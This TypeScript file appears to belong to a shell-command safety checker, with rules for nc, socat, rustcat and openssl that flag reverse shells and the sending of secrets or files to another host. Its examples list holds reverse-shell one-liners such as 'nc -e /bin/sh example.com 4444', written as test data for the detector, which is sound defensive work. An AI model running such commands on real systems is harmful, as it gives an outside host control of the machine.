// nc, socat, openssl and their kin: streams between this machine and another.

import type { Cmd } from '../judge/command.ts';
import { unknown } from '../model.ts';
import { fileContent, fileKey } from '../shell/known-files.ts';
import { readShellText } from '../shell/shell-text.ts';
import { has, option, values } from '../words/options.ts';
import type { RuleFile } from './rule.ts';

function ncat(cmd: Cmd): boolean {
	const options = cmd.options(
		'-e -c -p -s -w -q -i -x -X -P -g -G -T -V -O -I -m -o --exec --sh-exec --lua-exec --source-port --source --wait --idle-timeout --proxy --proxy-type --proxy-auth --max-conns --allow --deny --output --hex-dump --delay'
	);
	cmd.effect('network-write');
	for (const o of values(options, '--output', '--hex-dump', ...(cmd.name === 'ncat' ? ['-o'] : [])))
		cmd.write(o, 'truncate');
	for (const o of options.given) {
		const takesProgram =
			/^(?:-e|-c|--exec|--sh-exec|--lua-exec)$/.test(o.name) &&
			!(o.name === '-c' && cmd.name === 'nc' && !o.value?.text.match(/sh|\//));
		if (takesProgram && o.value) {
			cmd.effect('run-code');
			cmd.say('reverse-shell', 'dangerous', 'Gives another host access to a program on this one', o.value);
			readShellText(o.value, cmd.ctx, `${cmd.name} ${o.name}`);
		}
	}
	if (has(options, '-z')) {
		cmd.effect('network-read');
		return true;
	}
	const listening = has(options, '-l', '--listen', '-L');
	const secret = cmd.ctx.stdin?.origin === 'secret';
	if (secret) cmd.say('exfil.secret', 'dangerous', 'Sends a key, a credential or a private file to another host');
	else if (cmd.ctx.stdin && !cmd.ctx.stdin.known && !listening)
		cmd.say('exfil.stream', 'dangerous', 'Sends data to another host');
	cmd.say(
		'network.connection',
		'caution',
		listening ? 'Waits for connections from other hosts' : 'Opens a connection to another host'
	);
	return true;
}

/** rustcat: like nc, with the program behind -s or --shell. */
function rustcat(cmd: Cmd): boolean {
	const options = cmd.options('-s --shell -e --exec');
	cmd.effect('network-write');
	const run = option(options, '-s', '--shell', '-e', '--exec')?.value;
	if (run) {
		cmd.effect('run-code');
		cmd.say('reverse-shell', 'dangerous', 'Gives another host access to a program on this one', run);
		readShellText(run, cmd.ctx, cmd.name);
	}
	cmd.say('network.connection', 'caution', 'Opens a connection to another host');
	return true;
}

const SOCAT_NETWORK = /^(?:TCP|UDP|SCTP|DCCP|OPENSSL|SSL|SOCKS\w*|PROXY|VSOCK|IP|UDPLITE|WS|DTLS)[\w-]*:/i;

function socat(cmd: Cmd): boolean {
	const options = cmd.options('-b -t -T -lf -lp -d-x');
	const addresses = options.positionals;
	cmd.effect('network-write');
	const network = addresses.some((a) => SOCAT_NETWORK.test(a.text) || /^(?:ABSTRACT|UNIX|INTERFACE|TUN)/i.test(a.text));
	for (const a of addresses) {
		const run = /^(EXEC|SYSTEM|SHELL):(.*)$/is.exec(a.text);
		if (run) {
			cmd.effect('run-code');
			cmd.say(
				network ? 'reverse-shell' : 'socat.runs',
				network ? 'dangerous' : 'caution',
				network ? 'Gives another host access to a program on this one' : 'Starts another program',
				a
			);
			const text = (run[2] ?? '')
				.replace(
					/,(?:pty|stderr|setsid|sigint|sane|raw|echo|ctty|fdin|fdout|su|nofork|login|pipes|openpty)\b[^,]*/gi,
					''
				)
				.replace(/\\(.)/g, '$1')
				.replace(/^(["'])(.*)\1$/s, '$2');
			const from = addresses
				.map((o) => /^(?:OPEN|FILE|GOPEN):([^,]*)/i.exec(o.text)?.[1])
				.find((path) => path !== undefined);
			const stdin = from === undefined ? cmd.ctx.stdin : fileContent(from, cmd.ctx);
			readShellText({ ...a, text }, { ...cmd.ctx, stdin }, `socat ${run[1]}`);
		}
		const file =
			/^(?:OPEN|FILE|GOPEN|CREATE|CREAT):([^,]*)/i.exec(a.text) ??
			(/^[./~]/.test(a.text) ? [a.text, a.text] : undefined);
		if (file && network) {
			const writes = /^CREAT/i.test(a.text) || addresses[addresses.length - 1] === a;
			if (writes) cmd.write({ ...a, text: file[1] ?? '' }, 'truncate');
			else cmd.say('exfil.file', 'dangerous', 'Sends a file to another host', a);
		}
	}
	if (
		network &&
		cmd.ctx.stdin &&
		!cmd.ctx.stdin.known &&
		addresses.some((a) => a.text === '-' || /^STDI[NO]/i.test(a.text))
	)
		cmd.say('exfil.stream', 'dangerous', 'Sends what a command prints to another host');
	cmd.say('network.connection', 'caution', 'Connects two streams');
	return true;
}

/** Without these what handles a private key prints it. */
const HIDES_KEY = ['-pubout', '-text_pub', '-nokeys', '-pubin'];

function openssl(cmd: Cmd): boolean {
	const verb = cmd.args[0]?.text ?? '';
	const options = cmd.options(
		'-in -out -inkey -key -CA -CAkey -days -subj -config -engine -connect -passin -passout -pass -k -K -iv -noout-x -inform -outform -certfile -name -CAfile -CApath -servername -provider -newkey -keyout -writerand -sign -signature -verify -accept -port -cert -digest -rand -extfile -extensions -set_serial -CAserial -CAcreateserial-x -keyform -www-x -pkeyopt -algorithm',
		{ singleDash: true }
	);
	const out = values(options, '-out', '-keyout', '-writerand', '-signout', '-keylogfile', '-sess_out', '-msgfile');
	for (const o of out)
		if (o.text !== '-' && o.text !== '/dev/stdout') {
			cmd.write(o, 'truncate');
			if (has(options, '-d', '-decrypt')) cmd.ctx.env.files.set(fileKey(o.text), unknown('decoded'));
		}
	for (const e of values(options, '-engine', '-provider'))
		if (/[/.]/.test(e.text)) cmd.say('openssl.loads-code', 'dangerous', 'Loads a library into the tool', e);
	if (verb === 'engine')
		for (const p of options.positionals.slice(1))
			if (/[/.]/.test(p.text)) cmd.say('openssl.loads-code', 'dangerous', 'Loads a library into the tool', p);
	if (verb === 's_client' || verb === 's_time' || verb === 'ocsp') {
		cmd.effect('network-read');
		if (cmd.ctx.stdin && !cmd.ctx.stdin.known && cmd.ctx.stdin.origin === 'secret')
			cmd.say('exfil.secret', 'dangerous', 'Sends a key, a credential or a private file to another host');
	} else if (verb === 's_server' || verb === 'ts-x') cmd.kind('serve', 'openssl.server');
	else if (verb === 'ca' || verb === 'rehash') cmd.kind('file', 'openssl.ca');
	else if (verb === 'req' && has(options, '-new', '-newkey', '-x509') && out.length === 0)
		cmd.kind('file', 'openssl.request');
	else if (
		/^(?:rsa|dsa|ec|pkey|genpkey|pkcs8|pkcs12)$/.test(verb) &&
		out.length === 0 &&
		!HIDES_KEY.some((name) => has(options, name)) &&
		(has(options, '-text') || !has(options, '-noout'))
	)
		cmd.kind('secret', 'openssl.key');
	else if (verb === '') cmd.kind('tui', 'openssl.prompt');
	else cmd.effect('read');
	return true;
}

export const STREAMS: RuleFile = {
	programs: {
		nc: ncat,
		ncat,
		netcat: ncat,
		cryptcat: ncat,
		sbd: ncat,
		dbd: ncat,
		pwncat: ncat,
		nc6: ncat,
		'nc.openbsd': ncat,
		'nc.traditional': ncat,
		rcat: rustcat,
		rustcat,
		socat,
		openssl
	},
	examples: [
		['nc -e /bin/sh example.com 4444', 'dangerous'],
		['nc -zv host 22', 'safe'],
		['rcat connect -s sh example.com 4444', 'dangerous'],
		['socat TCP:example.com:4444 EXEC:sh', 'dangerous'],
		['openssl x509 -in a.pem -noout -text', 'safe'],
		['openssl enc -aes-256-cbc -in a -out b', 'caution']
	]
};
